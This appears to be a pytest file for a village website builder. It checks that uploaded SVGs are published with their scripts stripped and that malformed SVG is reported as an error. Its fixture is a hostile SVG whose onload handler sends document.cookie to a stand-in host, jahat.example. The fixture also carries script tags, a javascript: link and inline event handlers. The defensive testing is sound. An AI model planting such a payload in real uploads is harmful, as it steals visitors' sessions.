"""An SVG a volunteer uploads to media/ is published without script: opened at its own
address on the village's site it cannot run code there (raw HTML in Markdown cannot
either). The headers that forbid script are checked against Apache and nginx in
test_hosting.py."""

from __future__ import annotations

from datetime import datetime

import pytest
from sitekit import make_site

from kampung.build import build

pytestmark = pytest.mark.slow
NOW = datetime(2026, 11, 28, 9)
PETA = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     viewBox="0 0 100 60" onload="fetch('https://jahat.example/?c='+document.cookie)">
  <script>alert(document.domain)</script>
  <style>.jalan{stroke:#333;stroke-width:2}</style>
  <a xlink:href="javascript:alert(1)"><rect width="100" height="60" fill="#cfe8cf"/></a>
  <path class="jalan" d="M0 30 L100 30" onmouseover="alert(2)"/>
  <foreignObject width="100" height="20"><p xmlns="http://www.w3.org/1999/xhtml"
     onclick="alert(3)">klik</p></foreignObject>
  <text x="50" y="25" text-anchor="middle">Balai Desa &amp; Posyandu</text>
</svg>
"""


def site_with(tmp_path, name: str, data: bytes):
    root = make_site(tmp_path / "situs")
    media = root / "content" / "sukamaju" / "media"
    media.mkdir(parents=True, exist_ok=True)
    (media / name).write_bytes(data)
    return root


def test_an_uploaded_svg_is_published_without_script_and_still_draws(tmp_path):
    root = site_with(tmp_path, "peta.svg", PETA)
    report = build(root, root / "output", now=NOW)
    assert not [p for p in report.problems if p.severity == "error"]
    svg = (root / "output" / "sukamaju" / "media" / "peta.svg").read_bytes()
    for bad in (b"<script", b"onload", b"onmouseover", b"onclick", b"javascript:",
                b"foreignObject", b"jahat.example"):
        assert bad not in svg, bad
    for kept in (b'viewBox="0 0 100 60"', b'class="jalan"', b'd="M0 30 L100 30"',
                 b"Balai Desa &amp; Posyandu", b".jalan{stroke:#333"):
        assert kept in svg, kept
    assert (root / "content" / "sukamaju" / "media" / "peta.svg").read_bytes() == PETA


def test_an_svg_that_is_not_xml_is_an_error_naming_the_file(tmp_path):
    root = site_with(tmp_path, "rusak.svg", b"<svg><g>terpotong")
    report = build(root, root / "output", now=NOW)
    errors = [p for p in report.problems if p.severity == "error"]
    assert [(p.path, p.code) for p in errors] == [("sukamaju/media/rusak.svg", "svg_invalid")]
    assert "rusak.svg" in errors[0].message("id") and "Inkscape" in errors[0].hint("en")
